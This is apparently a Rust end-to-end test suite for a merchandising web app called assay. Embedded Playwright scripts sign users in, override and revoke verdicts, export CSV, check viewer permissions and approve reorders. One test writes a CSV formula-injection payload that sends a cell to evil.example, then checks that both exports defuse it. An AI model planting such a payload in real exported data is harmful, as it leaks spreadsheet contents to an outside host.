//! The merchandisers' page in a real headless Chromium (driven by Playwright with the
//! system's `/usr/bin/chromium`) against the real server: sign in, filter, open a style,
//! override, see the list change, export CSV, revoke; a viewer sees no buttons. Every
//! request the page makes must go to assay's own origin. Screenshots go to
//! `test-artifacts/screenshots/`.

use std::path::Path;

use serde_json::Value;

use crate::server::{Server, sample_copy, token};
use crate::support::{path_str, run_python};

const BROWSER: &str = r##"
import csv, io, json, os, tempfile, urllib.request
from playwright.sync_api import sync_playwright, expect

base = os.environ["BASE"]
shots = os.environ["SHOTS"]
merch, viewer = os.environ["MERCH"], os.environ["VIEWER"]
category = os.environ["CATEGORY"]
out = {"outside": [], "console_errors": []}

def api(path, token, method="GET", accept="application/json"):
    req = urllib.request.Request(base + path, method=method,
                                 headers={"Authorization": "Bearer " + token, "Accept": accept})
    try:
        with urllib.request.urlopen(req) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()

args = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]

def watch(page):
    def on_request(request):
        url = request.url
        if not (url.startswith(base + "/") or url == base or url.startswith("blob:") or url.startswith("data:")):
            out["outside"].append(url)
    page.on("request", on_request)
    page.on("console", lambda m: m.type == "error" and out["console_errors"].append(m.text))
    page.on("response", lambda r: r.status >= 400 and out["console_errors"].append(f"{r.status} {r.request.method} {r.url}"))
    page.on("dialog", lambda d: d.accept())

def sign_in(page, token):
    page.goto(base + "/")
    page.get_by_label("API token").fill(token)
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("table#list")).to_be_visible(timeout=30000)

with sync_playwright() as p, tempfile.TemporaryDirectory() as profile:
    ctx = p.chromium.launch_persistent_context(
        profile, executable_path="/usr/bin/chromium", headless=True, args=args,
        viewport={"width": 1280, "height": 800}, accept_downloads=True)
    page = ctx.new_page()
    watch(page)
    sign_in(page, merch)
    out["render_ms"] = page.evaluate("""() => { const t = performance.now();
        document.querySelector('#f-market').dispatchEvent(new Event('change'));
        return performance.now() - t; }""")
    page.screenshot(path=os.path.join(shots, "01-list.png"), full_page=False)
    # The decision comes first and by what needs attention: the first rows are keeps.
    out["sort"] = page.locator("#f-sort").input_value()
    out["first_verdict"] = page.locator("table#list tbody tr").first.locator("td.verdict .badge.effective").inner_text()
    out["empty_why"] = page.evaluate("""() => [...document.querySelectorAll('table#list td[data-col="reasons"]')]
        .filter(td => !td.textContent.trim()).length""")

    # Laptop to desktop: the verdict, the reason, the reorder and the confidence are in
    # view without scrolling, from the DOM's boxes, and rows stay one line high.
    def layout(width):
        page.set_viewport_size({"width": width, "height": 900})
        page.wait_for_timeout(200)
        page.screenshot(path=os.path.join(shots, f"00-list-{width}px.png"))
        return page.evaluate("""() => {
            const wrap = document.querySelector('#table-wrap .scroll').getBoundingClientRect();
            const visible = Math.min(document.documentElement.clientWidth, wrap.right);
            const rows = [...document.querySelectorAll('table#list tbody tr')].slice(0, 40);
            const right = (col) => Math.max(...rows.map(r => r.querySelector(`td[data-col="${col}"]`).getBoundingClientRect().right));
            return { visible,
                     right: Object.fromEntries(['verdict', 'reasons', 'reorder_units', 'confidence'].map(c => [c, right(c)])),
                     row_height: Math.max(...rows.map(r => r.getBoundingClientRect().height)),
                     page_scrolls: document.documentElement.scrollWidth > document.documentElement.clientWidth };
        }""")
    out["layout"] = {str(w): layout(w) for w in (1024, 1400)}
    page.set_viewport_size({"width": 1280, "height": 800})

    # The column picker: a hidden column comes back, and the choice survives a redraw.
    page.locator("#columns summary").click()
    page.check("#col-sell_through")
    out["picked_column"] = page.locator('table#list thead th[data-col="sell_through"]').count()
    page.uncheck("#col-sell_through")
    page.locator("#columns summary").click()

    # Filter to the drops of one category.
    page.select_option("#f-verdict", "drop")
    page.select_option("#f-category", category)
    rows = page.locator("table#list tbody tr")
    expect(rows.first).to_be_visible()
    n = rows.count()
    out["drop_rows"] = n
    out["drop_rows_ok"] = all(
        rows.nth(i).locator('td[data-col="category"]').inner_text() == category
        and rows.nth(i).locator("td.verdict .badge.effective").inner_text() == "drop" for i in range(n))
    page.screenshot(path=os.path.join(shots, "02-drops-in-category.png"))

    # Open the first style; its charts are drawn by the page.
    style_id = rows.first.get_attribute("data-style")
    out["style_id"] = style_id
    rows.first.locator("a").first.click()
    expect(page.locator("h1")).to_contain_text(style_id)
    out["charts"] = page.locator("svg.chart").count()
    out["effective_before"] = page.locator("#effective-verdict").inner_text()
    page.screenshot(path=os.path.join(shots, "03-style.png"), full_page=True)

    # Override it to keep, with a reason; the verdict changes without a reload.
    page.get_by_role("button", name="Override ALL").click()
    page.select_option("#ov-verdict", "keep")
    page.select_option("#ov-reason", "other")
    page.get_by_role("button", name="Save override").click()
    # "other" needs a comment: the form does not submit without one.
    out["comment_required"] = page.locator("#ov-comment").evaluate("e => e.required && e.validity.valueMissing")
    out["dialog_still_open"] = page.locator("#override-dialog").evaluate("d => d.open")
    # A comment a spreadsheet would run as a formula: both exports must write it as text.
    page.fill("#ov-comment", '=HYPERLINK("http://evil.example/?leak="&A1,"Influencer post on Friday, café crème colour")')
    # A keep orders something: where the plan proposes nothing, the form asks for it.
    reorder = page.locator("#ov-reorder")
    out["reorder_required"] = reorder.evaluate("e => e.required")
    out["reorder_prefill"] = reorder.input_value()
    out["reorder_plan_text"] = page.locator("#ov-reorder-plan").inner_text()
    if out["reorder_required"]:
        page.get_by_role("button", name="Save override").click()
        out["reorder_blocks_submit"] = page.locator("#override-dialog").evaluate("d => d.open")
        reorder.fill("150")
    page.get_by_role("button", name="Save override").click()
    expect(page.locator("#effective-verdict")).to_contain_text("keep")
    out["effective_after"] = page.locator("#effective-verdict").inner_text()
    out["history_rows"] = page.locator("#history tbody tr").count()
    page.screenshot(path=os.path.join(shots, "04-overridden.png"), full_page=True)

    # Back in the list: the row shows the effective verdict, marked as an override.
    page.get_by_role("link", name="← Back to the list").click()
    page.select_option("#f-verdict", "")
    page.fill("#search", style_id)
    row = page.locator(f'table#list tbody tr[data-style="{style_id}"][data-market="ALL"]')
    expect(row.locator("td.verdict")).to_contain_text("override by mer")
    out["list_verdict"] = row.locator("td.verdict").inner_text()
    out["list_effective"] = row.locator("td.verdict .badge.effective").inner_text()
    out["list_reorder"] = row.locator('td[data-col="reorder_units"]').inner_text()
    page.screenshot(path=os.path.join(shots, "05-list-after-override.png"))

    # Export what is shown: the category's pooled rows, any verdict.
    page.fill("#search", "")
    page.select_option("#f-market", "ALL")
    shown = page.locator("#counts").inner_text()
    with page.expect_download() as download:
        page.click("#export")
    raw = open(download.value.path(), "rb").read()
    out["bom"] = raw[:3] == b"\xef\xbb\xbf"
    text = raw[3:].decode("utf-8")
    exported = list(csv.DictReader(io.StringIO(text)))
    out["exported"] = [[r["style_id"], r["market"], r["verdict"], r["launched"]] for r in exported]
    out["exported_comment"] = [r["override_comment"] for r in exported if r["style_id"] == style_id]
    out["shown"] = shown
    status, body = api("/v1/decisions?market=ALL&category=" + category + "&format=csv", merch)
    api_rows = list(csv.DictReader(io.StringIO(body.decode())))
    out["api_rows"] = [[r["style_id"], r["market"], r["verdict"]] for r in api_rows]
    out["api_comment"] = [r["override_comment"] for r in api_rows if r["style_id"] == style_id]

    # Revoke from the list: the model's verdict is back.
    page.fill("#search", style_id)
    row.get_by_role("button", name="Revoke").click()
    expect(row.locator("td.verdict")).not_to_contain_text("override")
    out["after_revoke"] = row.locator("td.verdict .badge.effective").inner_text()

    # Keyboard: the filters are reachable and labelled.
    out["labels"] = page.evaluate("""() => [...document.querySelectorAll('select, input')]
        .filter(e => !e.closest('dialog'))
        .every(e => e.labels && e.labels.length > 0)""")
    page.keyboard.press("Tab")
    ctx.close()

    # A viewer sees no override buttons, and the server refuses one anyway.
    with tempfile.TemporaryDirectory() as profile2:
        ctx = p.chromium.launch_persistent_context(
            profile2, executable_path="/usr/bin/chromium", headless=True, args=args,
            viewport={"width": 1280, "height": 800})
        page = ctx.new_page()
        watch(page)
        sign_in(page, viewer)
        out["viewer_buttons"] = page.locator("[data-action]").count()
        page.screenshot(path=os.path.join(shots, "06-viewer.png"))
        page.goto(base + "/#/style/" + style_id)
        expect(page.locator("h1")).to_contain_text(style_id)
        out["viewer_style_buttons"] = page.locator("[data-action]").count()
        ctx.close()
req = urllib.request.Request(base + f"/v1/styles/{style_id}/overrides", method="POST",
    data=json.dumps({"verdict": "keep", "reason": "trend_signal", "market": "ALL"}).encode(),
    headers={"Authorization": "Bearer " + viewer, "Content-Type": "application/json"})
try:
    urllib.request.urlopen(req)
    out["viewer_post"] = 200
except urllib.error.HTTPError as e:
    out["viewer_post"] = e.code
print(json.dumps(out))
"##;

#[tokio::test]
async fn a_merchandiser_filters_overrides_exports_and_revokes_in_a_real_browser() {
    let tmp = sample_copy();
    let data = tmp.path();
    let merch = token(data, "merchandiser", "mer");
    let viewer = token(data, "viewer", "vic");
    let server = Server::start(data);

    // A category with pooled drops to filter to.
    let client = reqwest::Client::new();
    let drops: Value = client
        .get(format!(
            "{}/v1/decisions?market=ALL&verdict=drop&limit=1",
            server.base
        ))
        .bearer_auth(&merch)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let category = drops["items"][0]["category"].as_str().unwrap().to_owned();

    let shots = Path::new(env!("CARGO_MANIFEST_DIR")).join("../test-artifacts/screenshots");
    std::fs::create_dir_all(&shots).unwrap();
    let out = run_python(
        BROWSER,
        &[
            ("BASE", &server.base),
            ("SHOTS", path_str(&shots)),
            ("MERCH", &merch),
            ("VIEWER", &viewer),
            ("CATEGORY", &category),
        ],
    );
    let v: Value = serde_json::from_str(out.trim()).unwrap();
    println!("web page: rendered the list in {} ms", v["render_ms"]);

    assert_eq!(
        v["outside"],
        serde_json::json!([]),
        "requests outside assay's origin"
    );
    assert_eq!(v["console_errors"], serde_json::json!([]));
    assert!(v["drop_rows"].as_u64().unwrap() >= 1);
    assert_eq!(
        v["drop_rows_ok"], true,
        "every row shown is a drop of {category}"
    );
    assert_eq!(v["charts"], 4, "funnel, daily sales, posterior, projection");
    assert!(v["effective_before"].as_str().unwrap().starts_with("drop"));
    assert_eq!(v["comment_required"], true, "`other` needs a comment");
    assert_eq!(v["dialog_still_open"], true);
    let after = v["effective_after"].as_str().unwrap();
    assert!(
        after.starts_with("keep") && after.contains("override by mer"),
        "{after}"
    );
    assert_eq!(v["history_rows"], 1);
    assert_eq!(v["list_effective"], "keep");
    // The keep orders the plan's proposal, or, where the plan proposes none, what the
    // merchandiser had to enter.
    if v["reorder_required"] == true {
        assert_eq!(v["reorder_prefill"], "", "nothing to prefill");
        assert!(
            v["reorder_plan_text"]
                .as_str()
                .unwrap()
                .contains("enter how many"),
            "{}",
            v["reorder_plan_text"]
        );
        assert_eq!(v["reorder_blocks_submit"], true, "no quantity, no keep");
        assert_eq!(v["list_reorder"], "150");
    } else {
        assert_eq!(v["list_reorder"], v["reorder_prefill"]);
    }
    assert!(
        v["list_verdict"]
            .as_str()
            .unwrap()
            .starts_with("drop → keep"),
        "model → effective: {}",
        v["list_verdict"]
    );
    assert_eq!(v["after_revoke"], "drop");
    assert_eq!(v["sort"], "attention", "the default sort");
    assert_eq!(v["first_verdict"], "keep", "keeps need attention first");
    assert_eq!(v["empty_why"], 0, "every row says why");
    assert_eq!(
        v["picked_column"], 1,
        "the column picker shows a hidden column"
    );
    for (width, m) in v["layout"].as_object().unwrap() {
        let visible = m["visible"].as_f64().unwrap();
        for (col, right) in m["right"].as_object().unwrap() {
            let right = right.as_f64().unwrap();
            assert!(
                right <= visible,
                "{width} px: the {col} column ends at {right} px, past the visible {visible} px"
            );
        }
        let height = m["row_height"].as_f64().unwrap();
        assert!(height <= 40.0, "{width} px: rows {height} px high");
        assert_eq!(
            m["page_scrolls"], false,
            "{width} px: the page scrolls sideways"
        );
    }

    // The export is exactly the rows shown, against the API's own answer.
    assert_eq!(v["bom"], true, "UTF-8 with BOM for Excel");
    let exported = v["exported"].as_array().unwrap();
    let api_rows = v["api_rows"].as_array().unwrap();
    assert!(
        v["shown"]
            .as_str()
            .unwrap()
            .starts_with(&format!("{} rows", exported.len()))
    );
    let mut from_page: Vec<(String, String, String)> = exported
        .iter()
        .map(|r| {
            let launched = r[3].as_str().unwrap();
            assert_eq!(launched.len(), 10, "ISO date: {launched}");
            (r[0].to_string(), r[1].to_string(), r[2].to_string())
        })
        .collect();
    let mut from_api: Vec<(String, String, String)> = api_rows
        .iter()
        .map(|r| (r[0].to_string(), r[1].to_string(), r[2].to_string()))
        .collect();
    from_page.sort();
    from_api.sort();
    assert!(!from_api.is_empty());
    assert_eq!(from_page, from_api);
    // Written with a leading ' so Excel shows the text instead of running it.
    let defused = "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Influencer post on Friday, café crème colour\")";
    assert_eq!(v["exported_comment"], serde_json::json!([defused]));
    assert_eq!(v["api_comment"], serde_json::json!([defused]));

    assert_eq!(v["labels"], true, "every filter control has a label");
    assert_eq!(v["viewer_buttons"], 0, "a viewer sees no override buttons");
    assert_eq!(v["viewer_style_buttons"], 0);
    assert_eq!(
        v["viewer_post"], 403,
        "and the server refuses a viewer's override"
    );
    for shot in [
        "00-list-1024px.png",
        "00-list-1400px.png",
        "01-list.png",
        "02-drops-in-category.png",
        "03-style.png",
        "04-overridden.png",
        "05-list-after-override.png",
        "06-viewer.png",
    ] {
        let size = std::fs::metadata(shots.join(shot)).unwrap().len();
        assert!(size > 10_000, "{shot}: {size} bytes");
    }
    server.stop();
}

const JOBS_PAGE: &str = r##"
import json, os, tempfile
from playwright.sync_api import sync_playwright, expect

base, shots = os.environ["BASE"], os.environ["SHOTS"]
args = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
out = {"console_errors": []}

def sign_in(page, token):
    page.goto(base + "/")
    page.get_by_label("API token").fill(token)
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("table#list")).to_be_visible(timeout=30000)

with sync_playwright() as p:
    for who in ("ADMIN", "VIEWER"):
        with tempfile.TemporaryDirectory() as profile:
            ctx = p.chromium.launch_persistent_context(
                profile, executable_path="/usr/bin/chromium", headless=True, args=args,
                viewport={"width": 1400, "height": 900})
            page = ctx.new_page()
            page.on("console", lambda m: m.type == "error" and out["console_errors"].append(m.text))
            sign_in(page, os.environ[who])
            link = page.locator("#jobs-link")
            out[who + "_link"] = link.is_visible()
            if who == "ADMIN":
                link.click()
                expect(page.locator("table#jobs")).to_be_visible()
                out["caption"] = page.locator("table#jobs caption").inner_text()
                rows = page.locator("table#jobs tbody tr")
                out["rows"] = [{"class": rows.nth(i).get_attribute("class"),
                                "job": rows.nth(i).get_attribute("data-job"),
                                "text": rows.nth(i).inner_text()} for i in range(rows.count())]
                for width in (1024, 1400):
                    page.set_viewport_size({"width": width, "height": 900})
                    page.wait_for_timeout(200)
                    page.screenshot(path=os.path.join(shots, f"07-jobs-{width}px.png"))
                    out[f"scrolls_{width}"] = page.evaluate(
                        "() => document.documentElement.scrollWidth > document.documentElement.clientWidth")
            # The exceptions queue: reorders awaiting approval, flips, warnings.
            page.locator("#queue-link").click()
            expect(page.locator("table#reorders")).to_be_visible()
            proposed = page.locator("table#reorders tbody tr")
            out[who + "_proposed"] = proposed.count()
            out[who + "_queue_buttons"] = page.locator("[data-action]").count()
            out[who + "_sections"] = [page.locator("table#flips").count(), page.locator("#warnings").count()]
            if who == "ADMIN" and proposed.count() > 0:
                first = proposed.first.get_attribute("data-reorder")
                proposed.first.get_by_role("button", name="Approve").click()
                expect(page.locator(f'table#reorders tbody tr[data-reorder="{first}"]')).to_have_count(0)
                # The queue is drawn anew from the server: wait for it, not for the old row to go.
                expect(page.locator("table#reorders caption")).to_contain_text(
                    f"{out[who + '_proposed'] - 1} reorders proposed")
                out["approved"] = first
                out["after_approve"] = page.locator("table#reorders tbody tr").count()
                page.screenshot(path=os.path.join(shots, "08-queue.png"), full_page=True)
            ctx.close()
print(json.dumps(out))
"##;

/// A job record as the server stores it (`DIR/jobs/<id>.json`).
fn seed_job(data: &Path, id: &str, started: &str, seconds: i64) {
    let start = chrono::DateTime::parse_from_rfc3339(started).unwrap();
    let job = serde_json::json!({
        "job_id": id, "kind": "decide", "status": "succeeded", "trigger": "schedule",
        "started_at": start, "ended_at": start + chrono::Duration::seconds(seconds),
        "source": null, "rows": 505, "rejects": null, "error": null, "batch_id": null,
        "run_id": null, "note": "as of the day",
    });
    std::fs::create_dir_all(data.join("jobs")).unwrap();
    std::fs::write(data.join(format!("jobs/{id}.json")), job.to_string()).unwrap();
}

#[tokio::test]
async fn an_admin_sees_failed_and_late_jobs_and_approves_from_the_exceptions_queue() {
    let tmp = sample_copy();
    let data = tmp.path();
    // Five scheduled runs of 2 s, then one of 30 s: late against their median.
    for day in 1..=5 {
        seed_job(
            data,
            &format!("2026100{day}T060000.000000Z-decide-00000{day}"),
            &format!("2026-10-0{day}T06:00:00Z"),
            2,
        );
    }
    seed_job(
        data,
        "20261006T060000.000000Z-decide-000006",
        "2026-10-06T06:00:00Z",
        30,
    );
    let admin = token(data, "admin", "ops");
    let viewer = token(data, "viewer", "vic");
    let landing = tempfile::tempdir().unwrap();
    let server = Server::start_with(
        data,
        &[
            "--watch",
            path_str(landing.path()),
            "--watch-format",
            "events-csv",
            "--watch-interval-secs",
            "1",
        ],
    );
    std::fs::write(landing.path().join("broken.csv"), "not,an\nevents,file\n").unwrap();
    let client = reqwest::Client::new();
    let started = std::time::Instant::now();
    loop {
        let failed: Value = client
            .get(format!("{}/v1/jobs?status=failed", server.base))
            .bearer_auth(&admin)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        if !failed["jobs"].as_array().unwrap().is_empty() {
            break;
        }
        assert!(
            started.elapsed().as_secs() < 60,
            "the bad file's job failed"
        );
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }

    let shots = Path::new(env!("CARGO_MANIFEST_DIR")).join("../test-artifacts/screenshots");
    std::fs::create_dir_all(&shots).unwrap();
    let out = run_python(
        JOBS_PAGE,
        &[
            ("BASE", &server.base),
            ("SHOTS", path_str(&shots)),
            ("ADMIN", &admin),
            ("VIEWER", &viewer),
        ],
    );
    let v: Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(v["console_errors"], serde_json::json!([]));
    assert_eq!(v["ADMIN_link"], true);
    assert_eq!(v["VIEWER_link"], false, "only admins see the jobs");
    let rows = v["rows"].as_array().unwrap();
    let failed: Vec<&Value> = rows.iter().filter(|r| r["class"] == "job-failed").collect();
    assert_eq!(failed.len(), 1, "{rows:#?}");
    let text = failed[0]["text"].as_str().unwrap();
    assert!(
        text.contains("failed") && text.contains("broken.csv"),
        "{text}"
    );
    let slow = rows
        .iter()
        .find(|r| r["job"] == "20261006T060000.000000Z-decide-000006")
        .unwrap();
    assert_eq!(slow["class"], "job-late", "the 30 s run among 2 s ones");
    assert!(slow["text"].as_str().unwrap().contains("late"));
    let usual = rows
        .iter()
        .find(|r| r["job"] == "20261005T060000.000000Z-decide-000005")
        .unwrap();
    assert_eq!(usual["class"], "", "a 2 s run is on time");
    assert!(
        v["caption"].as_str().unwrap().contains("1 failed"),
        "{}",
        v["caption"]
    );
    for width in [1024, 1400] {
        assert_eq!(
            v[format!("scrolls_{width}")],
            false,
            "{width} px scrolls sideways"
        );
    }
    // The queue: an admin approves the first proposal; a viewer sees no buttons.
    let proposed = v["ADMIN_proposed"].as_u64().unwrap();
    assert!(proposed >= 1, "the sample's run proposes reorders");
    assert_eq!(v["ADMIN_queue_buttons"].as_u64(), Some(2 * proposed));
    assert_eq!(v["after_approve"].as_u64(), Some(proposed - 1));
    assert_eq!(v["VIEWER_queue_buttons"], 0);
    assert_eq!(v["ADMIN_sections"], serde_json::json!([1, 1]));
    let approved: Value = client
        .get(format!("{}/v1/reorders?status=approved", server.base))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let ids: Vec<&str> = approved["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["reorder_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [v["approved"].as_str().unwrap()]);
    server.stop();
}
